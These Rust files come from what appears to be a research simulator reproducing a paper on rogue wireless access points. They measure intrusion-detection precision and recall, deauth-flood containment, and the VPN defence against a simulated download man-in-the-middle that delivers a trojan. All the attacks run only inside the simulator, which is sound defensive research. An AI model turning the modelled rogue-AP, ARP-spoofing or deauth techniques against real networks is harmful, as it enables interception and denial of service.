        &CorpScenarioCfg::paper_attack(),
        &E10Params::default(),
        scenario,
        seed,
    )
}

/// One row of the E10 table.
#[derive(Clone, Debug)]
pub struct WidsRow {
    /// Scenario label.
    pub scenario: &'static str,
    /// Replications.
    pub reps: usize,
    /// Merged score across replications.
    pub eval: EvalOutcome,
    /// Mean incidents opened per run.
    pub mean_incidents: f64,
    /// Total ring drops (expected 0).
    pub ring_dropped: u64,
}

/// Score every scenario over `reps` replications each; the last row is
/// the merged "overall" line the acceptance thresholds apply to.
/// Defaults: [`wids_table`].
pub fn wids_table_with(
    base: &CorpScenarioCfg,
    params: &E10Params,
    reps: usize,
    seed: Seed,
) -> Vec<WidsRow> {
    let mut rows: Vec<WidsRow> = params
        .scenarios
        .iter()
        .map(|&scenario| {
            let outcomes: Vec<WidsRunOutcome> = (0..reps)
                .into_par_iter()
                .map(|rep| {
                    run_wids_once_with(base, params, scenario, seed.fork(0xE10 * 100 + rep as u64))
                })
                .collect();
            let mut eval = EvalOutcome::default();
            for o in &outcomes {
                eval.merge(&o.eval);
            }
            WidsRow {
                scenario: scenario.name(),
                reps: outcomes.len(),
                eval,
                mean_incidents: outcomes.iter().map(|o| o.incidents as f64).sum::<f64>()
                    / outcomes.len().max(1) as f64,
                ring_dropped: outcomes.iter().map(|o| o.ring_dropped).sum(),
            }
        })
        .collect();
    let mut overall = EvalOutcome::default();
    for r in &rows {
        overall.merge(&r.eval);
    }
    let mean_incidents =
        rows.iter().map(|r| r.mean_incidents).sum::<f64>() / rows.len().max(1) as f64;
    let ring_dropped = rows.iter().map(|r| r.ring_dropped).sum();
    rows.push(WidsRow {
        scenario: "overall",
        reps: reps * params.scenarios.len(),
        eval: overall,
        mean_incidents,
        ring_dropped,
    });
    rows
}

/// [`wids_table_with`] on the paper scenario with paper timing.
pub fn wids_table(reps: usize, seed: Seed) -> Vec<WidsRow> {
    wids_table_with(
        &CorpScenarioCfg::paper_attack(),
        &E10Params::default(),
        reps,
        seed,
    )
}

/// The E10 score card rendered as Markdown (so the table drops straight
/// into EXPERIMENTS.md). The single formatter both the `rogue-bench`
/// harness and the scenario compiler call; a `.toml` scenario at the
/// paper defaults reproduces the checked-in table byte-for-byte.
pub fn report_body(base: &CorpScenarioCfg, params: &E10Params, reps: usize, seed: Seed) -> String {
    let rows = wids_table_with(base, params, reps, seed);
    let mut t = Table::new(&[
        "scenario",
        "reps",
        "TP",
        "FP",
        "FN",
        "precision",
        "recall",
        "median latency s",
        "ring drops",
    ]);
    for r in &rows {
        t.row(&[
            r.scenario.to_string(),
            r.reps.to_string(),
            r.eval.true_positives.to_string(),
            r.eval.false_positives.to_string(),
            r.eval.false_negatives.to_string(),
            format!("{:.2}", r.eval.precision()),
            format!("{:.2}", r.eval.recall()),
            if r.eval.latencies_secs.is_empty() {
                "—".to_string()
            } else {
                format!("{:.2}", r.eval.median_latency_secs())
            },
            r.ring_dropped.to_string(),
        ]);
    }
    t.to_markdown()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clean_network_raises_nothing() {
        let o = run_wids_once(WidsScenario::Clean, Seed(101));
        assert_eq!(o.incidents, 0, "{:?}", o.incident_log);
        assert!((o.eval.precision() - 1.0).abs() < 1e-9);
        assert!((o.eval.recall() - 1.0).abs() < 1e-9);
        assert_eq!(o.ring_dropped, 0);
        assert!(o.events > 100, "sensors must be seeing traffic: {o:?}");
    }

    #[test]
    fn full_attack_is_fully_detected() {
        let o = run_wids_once(WidsScenario::RogueApDeauth, Seed(102));
        assert!(
            (o.eval.recall() - 1.0).abs() < 1e-9,
            "both attack facets must be caught: {:?}",
            o.incident_log
        );
        assert!(
            (o.eval.precision() - 1.0).abs() < 1e-9,
            "no spurious incidents: {:?}",
            o.incident_log
        );
        // The rogue AP must be flagged before the t=2s download finishes.
        let rogue_inc = o
            .incident_log
            .iter()
            .find(|(c, s, _, _)| *c == IncidentCategory::RogueAp && *s == corp_bssid())
            .expect("rogue-ap incident");
        assert!(rogue_inc.2 < SimTime::from_secs(4), "{:?}", o.incident_log);
    }

    #[test]
    fn wired_poisoner_is_caught() {
        let o = run_wids_once(WidsScenario::ArpSpoof, Seed(103));
        assert!((o.eval.recall() - 1.0).abs() < 1e-9, "{:?}", o.incident_log);
        assert!(
            (o.eval.precision() - 1.0).abs() < 1e-9,
            "{:?}",
            o.incident_log
        );
        let (_, subject, opened, _) = o.incident_log[0];
        assert_eq!(subject, arp_attacker_mac());
        assert!(opened >= SimTime::from_secs(3));
        assert!(opened < SimTime::from_secs(4), "first poison frame");
    }

    #[test]
    fn acceptance_thresholds_hold() {
        // The E10 acceptance bar: precision and recall >= 0.90 across
        // the scripted scenarios.
        let rows = wids_table(2, Seed(0xE10));
        let overall = rows.last().expect("overall row");
        assert!(
            overall.eval.precision() >= 0.90,
            "precision {:.3} < 0.90: {rows:?}",
            overall.eval.precision()
        );
        assert!(
            overall.eval.recall() >= 0.90,
            "recall {:.3} < 0.90: {rows:?}",
            overall.eval.recall()
        );
        assert_eq!(overall.ring_dropped, 0);
    }
}
