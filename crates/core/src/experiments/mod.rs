//! The paper's experiments, one module per artifact (DESIGN.md §4).
//!
//! | module | paper artifact |
//! |---|---|
//! | [`e1_association`] | Figure 1 — rogue-AP association capture |
//! | [`e2_download`] | Figure 2 / §4.1 — software-download MITM |
//! | [`e3_vpn`] | Figure 3 / §5 — VPN-everything defence |
//! | [`e4_wep`] | §4 premise — Airsnort/FMS WEP key recovery |
//! | [`e5_tcp_over_tcp`] | §5.3 — TCP-encapsulation penalty |
//! | [`e6_detection`] | §2.3 — sequence-control rogue detection |
//! | [`e7_matrix`] | §§1–3 — the defence matrix |
//! | [`e8_hotspot`] | extension: §1.2.2 / §5.1 — the hostile hotspot |
//! | [`e9_containment`] | extension: §6 future work — active rogue containment |
//! | [`e10_wids`] | extension: streaming WIDS precision / recall harness |

pub mod e1_association;
pub mod e2_download;
pub mod e3_vpn;
pub mod e4_wep;
pub mod e5_tcp_over_tcp;
pub mod e6_detection;
pub mod e7_matrix;
pub mod e8_hotspot;
pub mod e9_containment;

pub mod e10_evasion;
pub mod e10_wids;
