//! **E9 (extension) — the paper's future work: "improving techniques of
//! detecting and countering attacks similar to the ones discussed
//! here".**
//!
//! Detection (E6) tells the administrator a cloned-BSSID rogue is on
//! air; *containment* is what wireless IDS products built next: keep the
//! rogue's clients off it by flooding forged deauthentication on the
//! rogue's channel — the attacker's own §4 primitive, turned around.
//!
//! The experiment closes the loop inside one run: a defender sweeps
//! while the rogue-wids pipeline watches the captures live; the first
//! RogueAp *incident* against the corporate BSSID activates a
//! containment injector on the rogue's channel. Measured: whether the
//! victim's download-MITM still succeeds, against detection latency and
//! containment cadence.

use rayon::prelude::*;
use rogue_attack::DeauthFlooder;
use rogue_phy::Pos;
use rogue_services::apps::DownloadClient;
use rogue_sim::{Seed, SimDuration, SimTime};
use rogue_wids::{IncidentCategory, RadioSensor, WidsConfig, WidsPipeline};

use crate::scenario::{addrs, build_corp, corp_bssid, CorpScenarioCfg};

/// One replication's outcome.
#[derive(Clone, Debug)]
pub struct ContainmentOutcome {
    /// When the WIDS opened a RogueAp incident against the corp BSSID.
    pub detected_at: Option<SimTime>,
    /// When containment went active.
    pub contained_at: Option<SimTime>,
    /// The victim completed the (tampered) download anyway.
    pub attack_succeeded: bool,
    /// Forced disassociations the victim suffered from containment.
    pub victim_kicks: usize,
}

/// Run one replication. `containment` enables the response; the rogue is
/// on air from t = 0 and the victim browses at t = 2 s (as in E2).
pub fn run_containment_once(
    containment: bool,
    sweep_dwell: SimDuration,
    seed: Seed,
) -> ContainmentOutcome {
    let cfg = CorpScenarioCfg::paper_attack();
    let mut sc = build_corp(&cfg, seed);
    let dl_app = sc.world.add_app(
        sc.victim,
        Box::new(DownloadClient::new(
            addrs::TARGET,
            "/download.html",
            SimTime::from_secs(2),
            SimDuration::from_secs(25),
        )),
    );
    // The defender: monitor + WIDS pipeline + (later) containment
    // injector.
    let defender = sc.world.add_node("defender");
    let mon = sc.world.add_monitor(defender, Pos::new(20.0, 10.0), 1);
    let mut pipe = WidsPipeline::new(WidsConfig {
        authorized_aps: vec![(corp_bssid(), 1)],
        ..WidsConfig::default()
    });
    let mut sensor = RadioSensor::new(pipe.new_sensor_id());

    let channels: Vec<u8> = (1..=11).collect();
    let rogue_channel = cfg.rogue.as_ref().map(|r| r.channel).unwrap_or(6);
    let mut detected_at = None;
    let mut contained_at = None;
    let mut ch_idx = 0usize;
    let mut now = SimTime::ZERO;
    let run_time = SimTime::from_secs(30);

    while now < run_time {
        sc.world
            .set_radio_channel(defender, mon, channels[ch_idx % channels.len()]);
        ch_idx += 1;
        now = now.saturating_add(sweep_dwell).min(run_time);
        sc.world.run_until(now);

        sensor.drain(sc.world.sniffer(defender, mon), &mut pipe.ring);
        pipe.step(now);
        if detected_at.is_none() {
            let rogue_flagged = pipe
                .incidents()
                .iter()
                .any(|i| i.category == IncidentCategory::RogueAp && i.subject == corp_bssid());
            if rogue_flagged {
                detected_at = Some(now);
                if containment {
                    // Containment: broadcast deauth under the rogue's
                    // BSSID, on the rogue's channel, until the end.
                    // Real WIPS containment floods aggressively: a
                    // client that re-associates between frames gets
                    // usable airtime, and TCP happily trickles a
                    // download through those windows.
                    let flooder = DeauthFlooder::new(
                        corp_bssid(),
                        None,
                        now,
                        SimDuration::from_millis(15),
                        run_time,
                    );
                    sc.world.add_injector(
                        defender,
                        Pos::new(20.0, 10.0),
                        18.0,
                        rogue_channel,
                        flooder,
                    );
                    contained_at = Some(now);
                }
            }
        }
    }

    let outcome = sc
        .world
        .app::<DownloadClient>(sc.victim, dl_app)
        .outcome
        .clone();
    let attack_succeeded = outcome
        .as_ref()
        .map(|o| o.error.is_none() && o.verified && o.file_bytes.as_deref() == Some(&sc.trojan[..]))
        .unwrap_or(false);
    let victim_kicks = sc
        .world
        .mac_events
        .iter()
        .filter(|(_, n, e)| {
            *n == sc.victim
                && matches!(
                    e,
                    rogue_dot11::output::MacEvent::Disassociated { forced: true, .. }
                )
        })
        .count();

    ContainmentOutcome {
        detected_at,
        contained_at,
        attack_succeeded,
        victim_kicks,
    }
}

/// One row of the containment table.
#[derive(Clone, Debug)]
pub struct ContainmentRow {
    /// Containment active?
    pub containment: bool,
    /// Replications.
    pub reps: usize,
    /// Detection rate.
    pub detection_rate: f64,
    /// Attack success rate (trojan delivered + verified).
    pub attack_success_rate: f64,
    /// Mean forced kicks the victim received.
    pub mean_victim_kicks: f64,
}

/// Compare attack success with and without active containment.
pub fn containment_comparison(reps: usize, seed: Seed) -> Vec<ContainmentRow> {
    [false, true]
        .into_iter()
        .map(|containment| {
            let outcomes: Vec<ContainmentOutcome> = (0..reps)
                .into_par_iter()
                .map(|rep| {
                    run_containment_once(
                        containment,
                        SimDuration::from_millis(200),
                        seed.fork(containment as u64 * 5000 + rep as u64),
                    )
                })
                .collect();
            let n = outcomes.len().max(1) as f64;
            ContainmentRow {
                containment,
                reps: outcomes.len(),
                detection_rate: outcomes.iter().filter(|o| o.detected_at.is_some()).count() as f64
                    / n,
                attack_success_rate: outcomes.iter().filter(|o| o.attack_succeeded).count() as f64
                    / n,
                mean_victim_kicks: outcomes.iter().map(|o| o.victim_kicks as f64).sum::<f64>() / n,
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn without_containment_attack_succeeds() {
        let o = run_containment_once(false, SimDuration::from_millis(200), Seed(91));
        assert!(o.detected_at.is_some(), "{o:?}");
        assert!(o.attack_succeeded, "{o:?}");
        assert_eq!(o.victim_kicks, 0);
    }

    #[test]
    fn containment_disrupts_the_attack() {
        let o = run_containment_once(true, SimDuration::from_millis(200), Seed(92));
        assert!(o.detected_at.is_some(), "{o:?}");
        assert!(o.contained_at.is_some());
        assert!(
            o.victim_kicks >= 1,
            "containment must keep kicking the victim: {o:?}"
        );
        // Note: containment is a race — if detection lands after the
        // (fast) download it cannot help. With a 200 ms dwell, detection
        // beats the t=2 s download start.
        assert!(!o.attack_succeeded, "{o:?}");
    }
}
