//! **E3 — Figure 3 / §5: the VPN-everything defence.**
//!
//! The same compromised topology as E2 — victim on the rogue AP, traffic
//! bridged through the attacker — but the victim tunnels *all* traffic
//! to a pre-provisioned endpoint on the trusted wired network. The
//! DNAT rule never matches (the wire carries encapsulated records, not
//! TCP-to-port-80), netsed never sees a cleartext byte, and the download
//! verifies against the *genuine* MD5.

use rayon::prelude::*;
use rogue_sim::Seed;
use rogue_vpn::Transport;

use super::e2_download::{run_download_mitm, DownloadMitmConfig, DownloadMitmResult};
use crate::policy::ClientPolicy;
use crate::scenario::{build_corp, CorpScenarioCfg};

/// One mode of the Figure 3 comparison.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum VpnMode {
    /// No tunnel (the E2 victim).
    None,
    /// UDP-encapsulated tunnel.
    Udp,
    /// TCP-encapsulated tunnel (the paper's PPP-over-SSH).
    Tcp,
}

impl VpnMode {
    /// Table label.
    pub fn label(self) -> &'static str {
        match self {
            VpnMode::None => "no vpn",
            VpnMode::Udp => "vpn (udp encap)",
            VpnMode::Tcp => "vpn (tcp encap)",
        }
    }
}

/// One row of the Figure 3 comparison.
#[derive(Clone, Debug)]
pub struct VpnDefenseRow {
    /// Mode.
    pub mode: VpnMode,
    /// Replications.
    pub reps: usize,
    /// Fraction of runs where the victim associated to the rogue AP
    /// (the VPN does not and cannot prevent this — §5's point is that it
    /// doesn't matter).
    pub on_rogue_rate: f64,
    /// Fraction where the download completed.
    pub completed_rate: f64,
    /// Fraction where the victim received the trojan.
    pub trojan_rate: f64,
    /// Fraction where the victim received the genuine file with a
    /// passing MD5 — the defended outcome.
    pub genuine_verified_rate: f64,
    /// Mean download duration (completed runs), seconds.
    pub mean_download_secs: f64,
    /// Mean netsed replacements observed on the gateway.
    pub mean_netsed_hits: f64,
}

/// Configure the E2 experiment for a VPN mode.
pub fn config_for(mode: VpnMode) -> DownloadMitmConfig {
    let mut cfg = DownloadMitmConfig::paper();
    cfg.scenario.victim_vpn = match mode {
        VpnMode::None => None,
        VpnMode::Udp => Some(Transport::Udp),
        VpnMode::Tcp => Some(Transport::Tcp),
    };
    cfg
}

/// Run one replication in the given mode.
pub fn run_vpn_defense(mode: VpnMode, seed: Seed) -> DownloadMitmResult {
    run_download_mitm(&config_for(mode), seed)
}

/// The Figure 3 comparison table: `reps` replications per mode.
pub fn vpn_defense_comparison(reps: usize, seed: Seed) -> Vec<VpnDefenseRow> {
    [VpnMode::None, VpnMode::Udp, VpnMode::Tcp]
        .into_iter()
        .map(|mode| {
            let results: Vec<DownloadMitmResult> = (0..reps)
                .into_par_iter()
                .map(|rep| run_vpn_defense(mode, seed.fork(mode as u64 * 1000 + rep as u64)))
                .collect();
            let n = results.len().max(1) as f64;
            let completed: Vec<&DownloadMitmResult> =
                results.iter().filter(|r| r.completed).collect();
            VpnDefenseRow {
                mode,
                reps: results.len(),
                on_rogue_rate: results.iter().filter(|r| r.victim_on_rogue).count() as f64 / n,
                completed_rate: completed.len() as f64 / n,
                trojan_rate: results.iter().filter(|r| r.victim_got_trojan).count() as f64 / n,
                genuine_verified_rate: results
                    .iter()
                    .filter(|r| r.victim_got_genuine && r.md5_check_passed)
                    .count() as f64
                    / n,
                mean_download_secs: if completed.is_empty() {
                    f64::NAN
                } else {
                    completed.iter().map(|r| r.download_secs).sum::<f64>() / completed.len() as f64
                },
                mean_netsed_hits: results
                    .iter()
                    .map(|r| r.netsed_replacements as f64)
                    .sum::<f64>()
                    / n,
            }
        })
        .collect()
}

/// §5.2's authentication requirement, demonstrated: a rogue AP that
/// *terminates the VPN itself* (offering its own endpoint without the
/// pre-shared key) is refused by the client. Returns (client failed,
/// client auth failures).
pub fn rogue_endpoint_refused(seed: Seed) -> (bool, u64) {
    let mut cfg = CorpScenarioCfg::paper_attack();
    cfg.victim_vpn = Some(Transport::Udp);
    let mut sc = build_corp(&cfg, seed);
    // Sabotage: replace the endpoint's account PSK so it no longer
    // matches what the victim was provisioned with — equivalent to the
    // attacker standing up their own endpoint at the same address.
    {
        use rogue_dot11::MacAddr;
        use rogue_netstack::Ipv4Addr;
        use rogue_sim::SimRng;
        use rogue_vpn::server::{ClientAccount, VpnServerConfig};
        use rogue_vpn::VpnServer;
        let ep = sc.vpn_endpoint.expect("endpoint deployed");
        let bogus = VpnServer::new(
            VpnServerConfig {
                port: 4500,
                transport: Transport::Udp,
                accounts: [(
                    7,
                    ClientAccount {
                        psk: [0xEE; rogue_vpn::PSK_LEN], // wrong key
                        tun_ip: Ipv4Addr::new(10, 8, 0, 2),
                    },
                )]
                .into_iter()
                .collect(),
                tun_ifindex: 1,
                tun_peer_mac: MacAddr::local(101),
            },
            SimRng::new(seed.fork(0xBAD)),
        );
        // Find the endpoint's tun iface (index 1 by construction order).
        sc.world.attach_vpn_server(ep, 1, bogus);
    }
    // The client resends its hello up to 30 times (15 s) before failing
    // hard; give it time to exhaust the budget.
    sc.world.run_until(rogue_sim::SimTime::from_secs(20));
    let client = sc.world.vpn_client(sc.victim).expect("client attached");
    (client.is_failed(), client.auth_failures)
}

/// Check whether the policy/mode labels agree (used by E7).
pub fn mode_for_policy(policy: ClientPolicy) -> VpnMode {
    match policy.uses_vpn() {
        Some(Transport::Udp) => VpnMode::Udp,
        Some(Transport::Tcp) => VpnMode::Tcp,
        None => VpnMode::None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn figure3_vpn_protects_the_download() {
        let r = run_vpn_defense(VpnMode::Udp, Seed(21));
        assert!(r.completed, "error: {:?}", r.error);
        assert!(
            r.victim_on_rogue,
            "the VPN does not prevent rogue association — it makes it harmless"
        );
        assert!(!r.victim_got_trojan, "no rewrite through the tunnel");
        assert!(r.victim_got_genuine);
        assert!(r.md5_check_passed);
        assert_eq!(
            r.netsed_replacements, 0,
            "netsed must never see a cleartext match"
        );
    }

    #[test]
    fn tcp_encap_also_protects() {
        let r = run_vpn_defense(VpnMode::Tcp, Seed(22));
        assert!(r.completed, "error: {:?}", r.error);
        assert!(!r.victim_got_trojan);
        assert!(r.victim_got_genuine && r.md5_check_passed);
    }

    #[test]
    fn rogue_vpn_endpoint_is_refused() {
        let (failed, auth_failures) = rogue_endpoint_refused(Seed(23));
        assert!(failed, "client must refuse an endpoint without the PSK");
        assert!(auth_failures >= 1);
    }
}
