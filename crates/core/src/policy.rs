//! Client / network security policies compared by the defence matrix.
//!
//! Sections 2 and 5 of the paper walk through the defences of the day and
//! why each fails against a client-side rogue:
//!
//! * **Open** — nothing at all;
//! * **WEP** — shared-key link encryption: "in the attack scenarios we
//!   present here it provides no protection what so ever" (the attacker
//!   recovers the key via Airsnort and clones it onto the rogue);
//! * **WEP + MAC filter** — "accomplishes nothing more than perhaps
//!   keeping honest people honest" (valid MACs are sniffed and cloned);
//! * **802.1x-style** — client-to-network authentication *without mutual
//!   authentication*: "there is no guarantee that the client connects to
//!   the desired network and thus cannot trust the AP it connects to"
//!   (§2.2). Modelled as open association with an extra exchange the
//!   rogue happily fakes — the property under test (no network
//!   authentication) is identical;
//! * **VPN-everything** — the paper's recommendation (§5).

use rogue_vpn::Transport;

/// The defence deployed by the client/network pair.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ClientPolicy {
    /// No link security.
    Open,
    /// WEP on APs and clients (the attacker has cracked the key).
    Wep,
    /// WEP plus a MAC allow-list on the legitimate AP (the attacker has
    /// sniffed an allowed MAC).
    WepMacFilter,
    /// 802.1x-style one-way authentication (no network authentication).
    Dot1xStyle,
    /// WPA-PSK-style link security run by an *insider*: the paper notes
    /// TKIP "still relies on a pre shared key, thus is still vulnerable
    /// to MITM attack from valid network clients" (§2.2). The link
    /// cipher is uncrackable here — the attacker simply *has* the PSK,
    /// like any employee.
    WpaPskInsider,
    /// All client traffic through an authenticated VPN (§5), over the
    /// given encapsulation.
    VpnAll(Transport),
}

impl ClientPolicy {
    /// All policies, in the order the defence matrix prints them.
    pub fn all() -> [ClientPolicy; 6] {
        [
            ClientPolicy::Open,
            ClientPolicy::Wep,
            ClientPolicy::WepMacFilter,
            ClientPolicy::Dot1xStyle,
            ClientPolicy::WpaPskInsider,
            ClientPolicy::VpnAll(Transport::Udp),
        ]
    }

    /// Whether the link layer uses a shared-key cipher under this
    /// policy (WEP, or the WPA-PSK stand-in which reuses the WEP plumb
    /// with a key the attacker possesses legitimately).
    pub fn uses_wep(self) -> bool {
        matches!(
            self,
            ClientPolicy::Wep | ClientPolicy::WepMacFilter | ClientPolicy::WpaPskInsider
        )
    }

    /// Whether the legitimate AP filters MACs.
    pub fn uses_mac_filter(self) -> bool {
        matches!(self, ClientPolicy::WepMacFilter)
    }

    /// Whether the victim tunnels everything.
    pub fn uses_vpn(self) -> Option<Transport> {
        match self {
            ClientPolicy::VpnAll(t) => Some(t),
            _ => None,
        }
    }

    /// Short label for tables.
    pub fn label(self) -> &'static str {
        match self {
            ClientPolicy::Open => "open",
            ClientPolicy::Wep => "wep",
            ClientPolicy::WepMacFilter => "wep+macfilter",
            ClientPolicy::Dot1xStyle => "802.1x-style",
            ClientPolicy::WpaPskInsider => "wpa-psk (insider)",
            ClientPolicy::VpnAll(Transport::Udp) => "vpn-all (udp)",
            ClientPolicy::VpnAll(Transport::Tcp) => "vpn-all (tcp)",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn predicates() {
        assert!(!ClientPolicy::Open.uses_wep());
        assert!(ClientPolicy::Wep.uses_wep());
        assert!(ClientPolicy::WepMacFilter.uses_mac_filter());
        assert!(!ClientPolicy::Wep.uses_mac_filter());
        assert_eq!(
            ClientPolicy::VpnAll(Transport::Udp).uses_vpn(),
            Some(Transport::Udp)
        );
        assert_eq!(ClientPolicy::Open.uses_vpn(), None);
    }

    #[test]
    fn labels_unique() {
        let labels: Vec<&str> = ClientPolicy::all().iter().map(|p| p.label()).collect();
        let mut dedup = labels.to_vec();
        dedup.sort_unstable();
        dedup.dedup();
        assert_eq!(dedup.len(), labels.len());
    }
}
