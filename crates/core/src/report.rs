//! Fixed-width table rendering for experiment harness output.
//!
//! The benches and examples print the same rows EXPERIMENTS.md records;
//! this module keeps the formatting in one place.

/// A simple left-aligned text table.
#[derive(Clone, Debug, Default)]
pub struct Table {
    header: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl Table {
    /// New table with the given column headers.
    pub fn new(header: &[&str]) -> Table {
        Table {
            header: header.iter().map(|s| s.to_string()).collect(),
            rows: Vec::new(),
        }
    }

    /// Append a row (must match the header arity).
    pub fn row(&mut self, cells: &[String]) {
        assert_eq!(cells.len(), self.header.len(), "column count mismatch");
        self.rows.push(cells.to_vec());
    }

    /// Append a row from displayable values.
    pub fn row_display(&mut self, cells: &[&dyn std::fmt::Display]) {
        let cells: Vec<String> = cells.iter().map(|c| c.to_string()).collect();
        self.row(&cells);
    }

    /// Number of data rows.
    pub fn len(&self) -> usize {
        self.rows.len()
    }

    /// True when no data rows were added.
    pub fn is_empty(&self) -> bool {
        self.rows.is_empty()
    }

    /// Render with aligned columns.
    pub fn render(&self) -> String {
        let cols = self.header.len();
        let mut widths: Vec<usize> = self.header.iter().map(|h| h.len()).collect();
        for row in &self.rows {
            for (i, cell) in row.iter().enumerate() {
                widths[i] = widths[i].max(cell.len());
            }
        }
        let mut out = String::new();
        let fmt_row = |cells: &[String], widths: &[usize]| -> String {
            let mut line = String::new();
            for i in 0..cols {
                if i > 0 {
                    line.push_str("  ");
                }
                line.push_str(&format!("{:<width$}", cells[i], width = widths[i]));
            }
            line.trim_end().to_string()
        };
        out.push_str(&fmt_row(&self.header, &widths));
        out.push('\n');
        let rule: usize = widths.iter().sum::<usize>() + 2 * (cols - 1);
        out.push_str(&"-".repeat(rule));
        out.push('\n');
        for row in &self.rows {
            out.push_str(&fmt_row(row, &widths));
            out.push('\n');
        }
        out
    }

    /// Render as a GitHub-flavored Markdown table (pipes escaped).
    pub fn to_markdown(&self) -> String {
        let escape = |s: &str| s.replace('|', "\\|");
        let mut out = String::new();
        let emit = |out: &mut String, cells: &[String]| {
            out.push('|');
            for cell in cells {
                out.push(' ');
                out.push_str(&escape(cell));
                out.push_str(" |");
            }
            out.push('\n');
        };
        emit(&mut out, &self.header);
        out.push('|');
        for _ in &self.header {
            out.push_str("---|");
        }
        out.push('\n');
        for row in &self.rows {
            emit(&mut out, row);
        }
        out
    }
}

/// Format a fraction as a percentage with one decimal.
pub fn pct(x: f64) -> String {
    format!("{:.1}%", x * 100.0)
}

/// Format a boolean as the table-friendly YES/no.
pub fn yn(b: bool) -> String {
    if b {
        "YES".into()
    } else {
        "no".into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_aligned() {
        let mut t = Table::new(&["policy", "captured", "trojaned"]);
        t.row(&["open".into(), "100%".into(), "YES".into()]);
        t.row(&["vpn-all (udp)".into(), "100%".into(), "no".into()]);
        let s = t.render();
        let lines: Vec<&str> = s.lines().collect();
        assert_eq!(lines.len(), 4);
        assert!(lines[0].starts_with("policy"));
        assert!(lines[1].chars().all(|c| c == '-'));
        assert!(lines[2].contains("open"));
        assert_eq!(t.len(), 2);
    }

    #[test]
    #[should_panic(expected = "column count mismatch")]
    fn arity_checked() {
        let mut t = Table::new(&["a", "b"]);
        t.row(&["only-one".into()]);
    }

    #[test]
    fn markdown_shape() {
        let mut t = Table::new(&["scenario", "precision"]);
        t.row(&["rogue-ap".into(), "100.0%".into()]);
        let md = t.to_markdown();
        let lines: Vec<&str> = md.lines().collect();
        assert_eq!(lines.len(), 3);
        assert_eq!(lines[0], "| scenario | precision |");
        assert_eq!(lines[1], "|---|---|");
        assert_eq!(lines[2], "| rogue-ap | 100.0% |");
    }

    #[test]
    fn markdown_escapes_pipes() {
        let mut t = Table::new(&["k"]);
        t.row(&["a|b".into()]);
        assert!(t.to_markdown().contains("a\\|b"));
    }

    #[test]
    fn helpers() {
        assert_eq!(pct(0.5), "50.0%");
        assert_eq!(pct(1.0), "100.0%");
        assert_eq!(yn(true), "YES");
        assert_eq!(yn(false), "no");
    }
}
