//! # rogue-core — the reproduction of *Countering Rogues in Wireless
//! Networks* (ICPP 2003)
//!
//! This crate composes the substrates (`rogue-phy`, `rogue-dot11`,
//! `rogue-netstack`, `rogue-services`, `rogue-vpn`, `rogue-attack`,
//! `rogue-detect`) into runnable worlds and implements the paper's
//! experiments:
//!
//! * [`world`] — the discrete-event composition: radios + MAC entities +
//!   hosts + wired switches + applications, driven deterministically
//!   from one seed,
//! * [`scenario`] — prefabricated topologies: the Figure 1/2 corporate
//!   network with a two-NIC MITM gateway, and the hostile hotspot,
//! * [`policy`] — client security policies compared by the defence
//!   matrix (Open, WEP, WEP+MAC-filter, VPN-everything),
//! * [`experiments`] — E1–E7, one module per paper artifact (see
//!   DESIGN.md §4), each returning a plain result struct that the
//!   benches, examples and EXPERIMENTS.md tables are generated from,
//! * [`report`] — fixed-width table rendering for harness output.
//!
//! ## Quick start
//!
//! ```
//! use rogue_core::experiments::e2_download::{run_download_mitm, DownloadMitmConfig};
//! use rogue_sim::Seed;
//!
//! // The paper's Section 4 proof of concept, end to end.
//! let result = run_download_mitm(&DownloadMitmConfig::paper(), Seed(7));
//! assert!(result.victim_got_trojan, "the rewrite must land");
//! assert!(result.md5_check_passed, "and the victim's MD5 check must pass");
//! ```

pub mod experiments;
pub mod policy;
pub mod report;
pub mod scenario;
pub mod world;

pub use policy::ClientPolicy;
pub use world::{with_default_shards, NodeId, World};
