//! The composed simulation world.
//!
//! A [`World`] owns the radio [`Medium`], wired switches, and a set of
//! nodes. Each node is a machine: one [`Host`] (the IP stack), any number
//! of radios (each playing a MAC role: station, access point, monitor, or
//! raw injector), wired interfaces attached to switches, an optional VPN
//! tunnel device, and applications.
//!
//! Everything advances through one deterministic event queue. The
//! composition rules mirror real plumbing:
//!
//! * a station radio bound to a host interface behaves like a managed-mode
//!   WiFi NIC: upward `DeliverData` becomes an Ethernet frame into the
//!   stack; frames the stack emits on that interface are sent via the
//!   association,
//! * an **AP-local** radio is a master-mode NIC on the same machine (the
//!   paper's rogue gateway `wlan0`),
//! * an **AP-bridge** radio is a standalone infrastructure AP bridging
//!   802.11 to a wired switch port (the legitimate `CORP` AP),
//! * monitors capture everything decodable on their channel; injectors
//!   transmit arbitrary frames (forged deauth).

use std::collections::HashMap;

use bytes::Bytes;
use rayon::prelude::*;
use rogue_attack::FrameInjector;
use rogue_detect::wired::WiredMonitor;
use rogue_dot11::ap::ApMac;
use rogue_dot11::monitor::Sniffer;
use rogue_dot11::output::{MacEvent, MacOutput};
use rogue_dot11::sta::{StaMac, StaState};
use rogue_dot11::{ApConfig, MacAddr, StaConfig};
use rogue_netstack::ethernet::EthFrame;
use rogue_netstack::{Host, IfIndex, Ipv4Addr};
use rogue_phy::{Bitrate, Medium, MediumParams, Pos, RadioId, RegionMap, TxHandle, TxPlan};
use rogue_services::apps::{App, AppEvent};
use rogue_sim::profile::{self, Phase, Profiler};
use rogue_sim::queue::EventId;
use rogue_sim::trace::Metrics;
use rogue_sim::{Seed, ShardedQueue, SimDuration, SimRng, SimTime};
use rogue_vpn::{VpnClient, VpnServer};

/// Identifies a node in the world.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct NodeId(pub usize);

/// Identifies a switch.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct SwitchId(pub usize);

/// Payload of a frame crossing a switch toward a host interface. Boxed
/// in [`Event`]: `Bytes` alone is several words, and the queue copies
/// events around (wheel slots, burst buffers), so the enum must stay
/// two words.
struct WireFrame {
    node: u32,
    iface: IfIndex,
    bytes: Bytes,
}

